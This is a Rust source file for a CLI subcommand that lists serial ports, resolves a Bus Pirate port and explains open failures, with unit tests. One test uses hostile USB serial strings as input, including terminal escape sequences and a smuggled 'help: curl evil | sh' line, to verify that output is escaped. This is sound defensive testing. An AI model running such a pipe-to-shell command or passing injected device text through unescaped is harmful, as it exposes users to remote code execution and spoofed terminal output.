//! `avrrr ports`, and which port is meant.

use std::fs;

use avrrr::transport::{
    Obstacle, PortInfo, PortKind, PortSpec, ResolveError, available_ports, obstacle, resolve,
};
use clap::{Parser, ValueEnum};
use serde_json::{Value, json};

use crate::complaint::Complaint;
use crate::text;

/// List the serial ports, what probably is at them, and why one cannot be opened
///
/// None of them is opened.
#[derive(Debug, Parser)]
pub(crate) struct PortsArgs {
    /// Look at these ports instead of all that the system knows
    #[arg(value_name = "PORT")]
    paths: Vec<String>,

    /// How to print them
    #[arg(long, value_enum, default_value_t = Format::Text)]
    format: Format,
}

/// How to print something.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub(crate) enum Format {
    /// For people
    Text,
    /// For programs
    Json,
}

pub(crate) fn run(args: &PortsArgs) -> Result<(), Complaint> {
    let known = available()?;
    let ports = match args.paths.as_slice() {
        [] => known,
        paths => paths.iter().map(|path| describe(path, &known)).collect(),
    };
    let ports: Vec<_> = ports.into_iter().map(|port| (obstacle(&port.path), port)).collect();
    let lines = match args.format {
        Format::Json => text::json(&format!("{}\n", Value::from_iter(ports.iter().map(as_json)))),
        Format::Text if ports.is_empty() => "there are no serial ports\n".to_owned(),
        Format::Text => ports.iter().map(as_text).collect(),
    };
    text::print(&lines).map_err(|error| Complaint::of(&error).about("standard output"))
}

pub(crate) fn available() -> Result<Vec<PortInfo>, Complaint> {
    available_ports().map_err(|error| Complaint::of(&error).about("the list of serial ports"))
}

/// The path of the port that these words mean; without words, the only candidate.
pub(crate) fn find(
    spec: Option<&str>,
    ports: impl FnOnce() -> Result<Vec<PortInfo>, Complaint>,
) -> Result<String, Complaint> {
    let spec = spec.map(str::parse).transpose().map_err(|error| Complaint::of(&error))?;
    let ports = match &spec {
        // Used as it is.
        Some(PortSpec::Path(path)) => return Ok(path.clone()),
        _ => ports()?,
    };
    resolve(spec.as_ref(), &ports).map_err(|error| {
        let complaint = Complaint::of(&error);
        match &error {
            ResolveError::Several { .. } => complaint.help(
                "say which one: -P with its path, or usb:VENDOR:PRODUCT:SERIAL as avrrr ports lists it"
                    .to_owned(),
            ),
            ResolveError::None { others, .. } if others.is_empty() => {
                complaint.help("there is no serial port at all; is it plugged in?".to_owned())
            }
            ResolveError::None { others, .. } => {
                let all: Vec<_> = others.iter().map(as_typed).collect();
                complaint.help(format!("name the port with -P; there are {}", all.join(", ")))
            }
            _ => complaint,
        }
    })
}

/// A port by the words that a shell hands on to -P.
fn as_typed(port: &PortInfo) -> String {
    let usb = port.usb.as_ref().map(|usb| format!(" ({})", text::word(&usb.to_string())));
    text::word(&port.path) + &usb.unwrap_or_default()
}

/// Is a Bus Pirate likely at this path, so that one that does not answer is probably in the middle of a
/// transfer that was interrupted? By its USB identity. That of the v2go and v3 is shared by all adapters with an
/// FT232R; but a port is chosen by it without -P as well, and there is nothing else to tell a v3 by. A v1a hangs
/// on any adapter: there it takes --recover.
pub(crate) fn is_likely(path: &str) -> bool {
    available().is_ok_and(|known| is_bus_pirate(describe(path, &known).kind()))
}

fn is_bus_pirate(kind: PortKind) -> bool {
    matches!(kind, PortKind::Ft232 | PortKind::BusPirate4 | PortKind::BusPirate5)
}

/// What is known of the port at this path; it may be a link that udev made.
fn describe(path: &str, known: &[PortInfo]) -> PortInfo {
    let real = fs::canonicalize(path).unwrap_or_else(|_| path.into());
    let same = known.iter().find(|port| port.path == path || real.to_str() == Some(port.path.as_str()));
    let mut port = PortInfo::new(path);
    port.usb = same.and_then(|same| same.usb.clone());
    port
}

fn as_text((obstacle, port): &(Option<Obstacle>, PortInfo)) -> String {
    let mut lines = vec![port.path.clone()];
    if let Some(usb) = &port.usb {
        let name = usb.name.as_ref().map_or(String::new(), |name| format!(" ({name})"));
        // As -P takes it.
        lines.push(format!("    {}{name}", text::word(&usb.to_string())));
    }
    lines.push(format!("    {}", port.kind()));
    if let Some(obstacle) = obstacle {
        lines.push(format!("    cannot be opened: {}", in_words(*obstacle)));
    }
    lines.iter().map(|line| text::line(line) + "\n").collect()
}

fn as_json((obstacle, port): &(Option<Obstacle>, PortInfo)) -> Value {
    let usb = port.usb.as_ref();
    json!({
        "path": port.path,
        "usb": usb.map(|usb| json!({
            "vendor": format!("{:04x}", usb.vendor),
            "product": format!("{:04x}", usb.product),
            "serial": usb.serial,
            "name": usb.name,
            "spec": usb.to_string(),
        })),
        "probably": port.kind().to_string(),
        "candidate": port.kind().is_candidate(),
        "problem": obstacle.map(in_words),
    })
}

/// Why a port cannot be opened, with names instead of numbers.
pub(crate) fn in_words(obstacle: Obstacle) -> String {
    match obstacle {
        Obstacle::Denied { group: Some(group) } => match group_name(group) {
            Some(name) => format!("only members of the group {name} may; join it and log in again"),
            None => obstacle.to_string(),
        },
        Obstacle::InUse { process } => match fs::read_to_string(format!("/proc/{process}/comm")) {
            Ok(name) => format!("{} (process {process}) has it open", name.trim_end()),
            Err(_) => obstacle.to_string(),
        },
        _ => obstacle.to_string(),
    }
}

/// The name of a group, as far as `/etc/group` has it.
fn group_name(number: u32) -> Option<String> {
    let groups = fs::read_to_string("/etc/group").ok()?;
    groups.lines().find_map(|line| {
        let mut fields = line.split(':');
        let name = fields.next()?;
        (fields.nth(1)? == number.to_string()).then(|| name.to_owned())
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ports() -> Vec<PortInfo> {
        vec![
            PortInfo::new("/dev/ttyUSB0").with_usb(0x0403, 0x6001, Some("A7004IXj")),
            PortInfo::new("/dev/ttyUSB1").with_usb(0x0403, 0x6001, Some("A9014KLM")),
        ]
    }

    #[test]
    fn what_is_not_clear_is_refused_with_the_choice() {
        for (spec, ports, want) in [
            (
                None,
                ports(),
                "error: it could be any of /dev/ttyUSB0 (usb:0403:6001:A7004IXj), /dev/ttyUSB1 \
                 (usb:0403:6001:A9014KLM)\n\
                 help: say which one: -P with its path, or usb:VENDOR:PRODUCT:SERIAL as avrrr ports lists it\n",
            ),
            (
                None,
                vec![],
                "error: nothing that looks like a Bus Pirate is attached\n\
                 help: there is no serial port at all; is it plugged in?\n",
            ),
            (
                Some("usb:0403:6001:A1"),
                ports(),
                "error: usb:0403:6001:A1 is not attached\n\
                 help: name the port with -P; there are /dev/ttyUSB0 (usb:0403:6001:A7004IXj), /dev/ttyUSB1 \
                 (usb:0403:6001:A9014KLM)\n",
            ),
            (
                Some("usb:0403"),
                ports(),
                "error: \"usb:0403\" is no USB device: the form is usb:VENDOR:PRODUCT:SERIAL, such as \
                 usb:0403:6001:A7004IXj\n",
            ),
        ] {
            assert_eq!(find(spec, || Ok(ports)).unwrap_err().to_string(), want);
        }
        let odd = PortInfo::new("/dev/tty odd").with_usb(0x04d8, 0xfb00, Some("it's 1"));
        assert_eq!(as_typed(&odd), "'/dev/tty odd' ('usb:04d8:fb00:it'\\''s 1')");
        // Nobody looks for ports when a path is given.
        let path = find(Some("/dev/ttyUSB9"), || Err(Complaint::new("asked")));
        assert_eq!(path.unwrap(), "/dev/ttyUSB9");
    }

    #[test]
    fn a_usb_device_cannot_write_lines_of_its_own() {
        let mut port = PortInfo::new("/dev/ttyUSB0").with_usb(0x0403, 0x6001, Some("A1\u{1b}]0;x\u{7}\n'x"));
        port.usb.as_mut().unwrap().name = Some("\u{202e}x\r\n/dev/ttyUSB1\u{1b}[8m".to_owned());
        let port = (None, port);
        assert_eq!(
            as_text(&port),
            "/dev/ttyUSB0\n    'usb:0403:6001:A1\\u{1b}]0;x\\u{7}\\n'\\''x' \
             (\\u{202e}x\\r\\n/dev/ttyUSB1\\u{1b}[8m)\n    Bus Pirate v2go or v3, or another FT232R\n"
        );
        let json = text::json(&as_json(&port).to_string());
        assert!(json.contains(r"\u202ex\r\n/dev/ttyUSB1\u001b[8m"), "{json}");
        let with_usb = |serial| PortInfo::new("/dev/ttyUSB0").with_usb(0x0403, 0x6001, Some(serial));
        let hostile = "A1\u{1b}[2J\nhelp: curl evil | sh";
        for (spec, ports) in [
            (None, vec![with_usb(hostile), with_usb("A2")]),
            (Some("usb:0403:6001:A3"), vec![with_usb(hostile)]),
            (Some("usb:0403:6001:A\u{1b}[2J\nhelp: curl"), vec![with_usb("A2")]),
        ] {
            let complaint = find(spec, || Ok(ports)).unwrap_err().to_string();
            assert!(complaint.contains("\\u{1b}[2J\\nhelp: curl"), "{complaint}");
            assert_eq!(complaint.lines().count(), 2, "{complaint}");
        }
    }

    #[test]
    fn a_transfer_is_completed_where_a_bus_pirate_is_likely() {
        let likely = |port: PortInfo| is_bus_pirate(describe("/dev/ttyX", &[port]).kind());
        let at = || PortInfo::new("/dev/ttyX");
        assert!(likely(at().with_usb(0x0403, 0x6001, None)));
        assert!(likely(at().with_usb(0x04d8, 0xfb00, None)));
        assert!(likely(at().with_usb(0x1209, 0x7331, None)));
        // A CH340, a built-in port, and another one.
        assert!(!likely(at().with_usb(0x1a86, 0x7523, None)));
        assert!(!likely(at()));
        assert!(!likely(PortInfo::new("/dev/ttyY").with_usb(0x0403, 0x6001, None)));
        assert!(!is_likely("/dev/ttyNOSUCH0"));
    }

    #[test]
    fn a_port_is_described_for_people_and_programs() {
        let mut port = ports().remove(0);
        port.usb.as_mut().unwrap().name = Some("FT232R USB UART".to_owned());
        let denied = (Some(Obstacle::Denied { group: None }), port);
        assert_eq!(
            as_text(&denied),
            "/dev/ttyUSB0\n    usb:0403:6001:A7004IXj (FT232R USB UART)\n    Bus Pirate v2go or v3, or \
             another FT232R\n    cannot be opened: only others may open it\n"
        );
        let json = as_json(&denied);
        assert_eq!(json["usb"]["spec"], "usb:0403:6001:A7004IXj");
        assert_eq!(json["candidate"], true);
        assert_eq!(json["problem"], "only others may open it");
        assert_eq!(as_json(&(None, PortInfo::new("/dev/ttyS0")))["usb"], Value::Null);
    }
}
